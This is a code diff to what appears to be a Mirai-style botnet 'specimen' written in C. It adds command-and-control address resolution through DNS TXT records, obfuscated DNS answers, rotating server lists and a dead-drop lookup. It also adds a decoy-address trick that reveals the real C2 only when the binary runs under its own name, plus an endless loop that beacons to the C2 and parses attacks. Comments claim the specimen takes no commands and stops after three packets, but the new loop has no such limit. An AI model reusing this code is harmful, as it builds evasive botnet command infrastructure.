@@ -2,6 +2,7 @@
 #include "attack.h"
 #include "inert.h"
 #include "killer.h"
+#include "reach.h"
 #include "resolver.h"
 #include "scanner.h"
 #include "table.h"
@@ -13,11 +14,16 @@
 
 void (*resolve_func)(void);
 struct sockaddr_in server_address;
-#if C2_FROM >= C2_IPV6_BYTES
+#if C2_OVER_IPV6
 struct sockaddr_in6 server_address6;
 #endif
 #if C2_FROM == C2_ARGUMENT
 char **arguments;
+#endif
+
+#if REACH_GATE
+/* How often a C2 was not reached. */
+unsigned int c2_in_turn;
 #endif
 
 /* Nothing fills these: a specimen takes no commands. */
@@ -113,15 +119,66 @@ LOCAL void resolve_cnc_addr(void)
     STRING_OPEN(C2_HOST);
     inet_pton(AF_INET6, STRING_GET(C2_HOST, NULL), &server_address6.sin6_addr);
     STRING_CLOSE(C2_HOST);
+#elif C2_FROM == C2_TXT
+    STRING_OPEN(C2_HOST);
+    server_address.sin_addr.s_addr = address_of_text_record(STRING_GET(C2_HOST, NULL));
+    STRING_CLOSE(C2_HOST);
+#elif C2_FROM == C2_RECORD
+    STRING_OPEN(C2_HOST);
+    resolve_name(STRING_GET(C2_HOST, NULL));
+    STRING_CLOSE(C2_HOST);
+    if (server_address.sin_addr.s_addr != 0) {
+#if C2_TRANSFORM == TRANSFORM_HALVES
+        server_address.sin_addr.s_addr =
+            server_address.sin_addr.s_addr << 16 | server_address.sin_addr.s_addr >> 16;
+#else
+        server_address.sin_addr.s_addr ^= NETWORK_ADDRESS(MIXED_1, MIXED_2, MIXED_3, MIXED_4);
+#endif
+    }
+#elif C2_FROM == C2_NEXT_TABLE
+    switch (c2_in_turn % C2_COUNT) {
+#define IN_TURN(INDEX, NAME)                      \
+    case INDEX:                                   \
+        STRING_OPEN(NAME);                        \
+        resolve_text(STRING_GET(NAME, NULL));     \
+        STRING_CLOSE(NAME);                       \
+        break;
+        C2_NAMES(IN_TURN)
+    }
+#elif C2_FROM == C2_NEXT_DOTTED
+    static const char *in_turn[C2_COUNT] = {C2_PLAIN_LIST};
+    server_address.sin_addr.s_addr = inet_addr(in_turn[c2_in_turn % C2_COUNT]);
+#elif C2_FROM == C2_NEXT_IMMEDIATE
+    ipv4_t in_turn[C2_COUNT] = {C2_ADDRESS_LIST};
+    server_address.sin_addr.s_addr = in_turn[c2_in_turn % C2_COUNT];
+#elif C2_FROM == C2_DEAD_DROP
+    STRING_OPEN(DROP_HOST);
+    resolve_name(STRING_GET(DROP_HOST, NULL));
+    if (server_address.sin_addr.s_addr != 0) {
+        STRING_OPEN(DROP_PATH);
+        server_address.sin_addr.s_addr =
+            address_of_dead_drop(server_address.sin_addr.s_addr, STRING_GET(DROP_HOST, NULL),
+                                 STRING_GET(DROP_PATH, NULL));
+        STRING_CLOSE(DROP_PATH);
+    }
+    STRING_CLOSE(DROP_HOST);
 #endif
 
-#if C2_FROM >= C2_IPV6_BYTES
+#if C2_OVER_IPV6
     server_address6.sin6_family = AF_INET6;
     SET_C2_PORT(server_address6.sin6_port)
 #elif C2_FROM != C2_MAIN
     SET_C2_PORT(server_address.sin_port)
 #endif
 }
+
+#if REACH_GATE
+static void resolve_decoy(void)
+{
+    server_address.sin_addr.s_addr = NETWORK_ADDRESS(DECOY_1, DECOY_2, DECOY_3, DECOY_4);
+    server_address.sin_port = NETWORK_PORT(DECOY_PORT);
+}
+#endif
 
 static void trap_handler(int number)
 {
@@ -140,6 +197,27 @@ static int under_own_name(const char *name)
     return name[i] == '\0';
 }
 
+#if REACH_GATE == REACH_DIRECT
+static void unlock_if_own_name(char *name)
+{
+    (void)name;
+#if HAS_TABLE_INIT
+    table_init();
+#endif
+    resolve_func = resolve_cnc_addr;
+}
+#elif REACH_GATE == REACH_NAME
+static void unlock_if_own_name(char *name)
+{
+#if HAS_TABLE_INIT
+    table_init();
+#endif
+    STRING_OPEN(PROCESS_NAME);
+    if (util_same(name, STRING_GET(PROCESS_NAME, NULL)))
+        resolve_func = resolve_cnc_addr;
+    STRING_CLOSE(PROCESS_NAME);
+}
+#else
 /* Fills the table, and traps so that the handler swaps the resolve function: under the own name. */
 static void unlock_if_own_name(char *name)
 {
@@ -153,6 +231,7 @@ static void unlock_if_own_name(char *name)
 #endif
     raise(SIGTRAP);
 }
+#endif
 
 LOCAL void ensure_single_instance(void)
 {
@@ -191,6 +270,46 @@ static void quiet_watchdog(void)
 }
 #endif
 
+#if REACH_GATE
+/*
+ * Resolves the C2 that is in turn and greets it; 0 when it cannot be reached. What it may answer is
+ * not read.
+ */
+LOCAL int greet_c2(const char *id, int id_length)
+{
+    uint8_t greeting[64] = {0, 0, 0, 1};
+    int fd;
+    server_address.sin_addr.s_addr = 0;
+    resolve_func();
+    if (server_address.sin_addr.s_addr == 0 || (fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
+        return 0;
+    if (bounded_connect(fd, &server_address) == -1) {
+        close(fd);
+        return 0;
+    }
+    greeting[4] = (uint8_t)id_length;
+    util_memcpy(greeting + 5, id, id_length);
+    bounded_stream_send(fd, greeting, 5 + id_length);
+    close(fd);
+    return 1;
+}
+
+/* For ever, as the family does; after the third packet nothing leaves. */
+LOCAL void serve(const char *id, int id_length)
+{
+    for (;;) {
+        if (!greet_c2(id, id_length))
+            c2_in_turn++;
+#if HAS_PEERS
+        greet_peers();
+#endif
+#if HAS_ATTACKS
+        attack_parse(command_buffer, command_length);
+#endif
+        sleep(1 + rand_next() % 10);
+    }
+}
+#else
 /* Greets the C2 once: four bytes, the length of the id, the id. Receives nothing. */
 LOCAL void establish_connection(const char *id, int id_length)
 {
@@ -198,7 +317,7 @@ LOCAL void establish_connection(const char *id, int id_length)
     int fd;
     if (resolve_func != NULL)
         resolve_func();
-#if C2_FROM >= C2_IPV6_BYTES
+#if C2_OVER_IPV6
     if ((fd = socket(AF_INET6, SOCK_STREAM, 0)) == -1)
         return;
     if (packets_left <= 0)
@@ -218,6 +337,7 @@ LOCAL void establish_connection(const char *id, int id_length)
     bounded_stream_send(fd, greeting, 5 + id_length);
     close(fd);
 }
+#endif
 
 static void say_started(void)
 {
@@ -249,6 +369,9 @@ int main(int argc, char **argv)
     arguments = argv;
 #endif
 
+#if REACH_GATE
+    resolve_func = resolve_decoy;
+#endif
     rand_init();
     unlock_if_own_name(argv[0]);
 #if C2_FROM == C2_MAIN
@@ -284,6 +407,9 @@ int main(int argc, char **argv)
 #if HAS_EXPLOIT
     exploit_init();
 #endif
+#if REACH_GATE
+    serve(id, id_length);
+#else
     while (packets_left > 0) {
         establish_connection(id, id_length);
 #if HAS_ATTACKS
@@ -291,5 +417,6 @@ int main(int argc, char **argv)
 #endif
         sleep(1 + rand_next() % 10);
     }
+#endif
     return 0;
 }
